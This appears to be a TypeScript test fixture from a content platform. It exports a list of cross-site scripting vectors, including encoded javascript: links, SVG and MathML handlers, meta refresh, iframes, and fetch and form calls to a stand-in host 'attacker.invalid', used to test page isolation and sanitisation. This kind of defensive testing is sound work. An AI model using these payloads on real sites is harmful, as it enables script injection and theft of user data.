/** The host every vector below would reach if anything of it ran. */
export const ATTACKER = 'attacker.invalid';

/**
 * Issue #14's vectors, as an article written through the API with `content.write` carries them:
 * each would show a dialog, set `window.__pwned` or reach the attacker's host if anything of it ran.
 * The reader-site isolation test and the dashboard editor's both open a page holding all of them.
 */
export const XSS_VECTORS: readonly string[] = [
  `<img src=x onerror="alert('img');window.__pwned=1">`,
  `<p onmouseover="alert('p')" style="display:block;width:100%;height:200px">hover</p>`,
  `<body onload="alert('body')">`,
  `<a id="js1" href="javascript:alert('link')">a</a>`,
  `<a id="js2" href="JaVaScRiPt:alert('upper')">b</a>`,
  `<a id="js3" href="java&#x09;script&colon;alert('entity')">c</a>`,
  `<a id="js4" href="&#106;avascript:alert('decimal')">d</a>`,
  `<a id="js5" href=" javascript:alert('padded')">e</a>`,
  `<a id="data" href="data:text/html,<script>alert('data')</script>">f</a>`,
  `<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>`,
  `<svg><a xlink:href="javascript:alert('svg-link')"><text x="20" y="20">svg</text></a></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert('math')">m</maction></math>`,
  `<base href="https://${ATTACKER}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${ATTACKER}/refresh">`,
  `<object data="https://${ATTACKER}/object"></object><embed src="https://${ATTACKER}/embed">`,
  `<iframe src="https://${ATTACKER}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>`,
  `<div style="width:expression(alert('css'));background:url(https://${ATTACKER}/css)">css</div>`,
  `<style>@import url("https://${ATTACKER}/import.css");</style>`,
  `<form action="https://${ATTACKER}/form"><input name="q"><button id="go">Go</button></form>`,
  `<button id="fa" formaction="https://${ATTACKER}/formaction">x</button>`,
  `<script>alert('script');fetch('https://${ATTACKER}/script')</script>`,
  `<img src="x" onerror="fetch('https://${ATTACKER}/onerror')">`,
  `<details open ontoggle="alert('toggle')"><summary>s</summary></details>`,
  `<video><source onerror="alert('video')"></video>`,
];
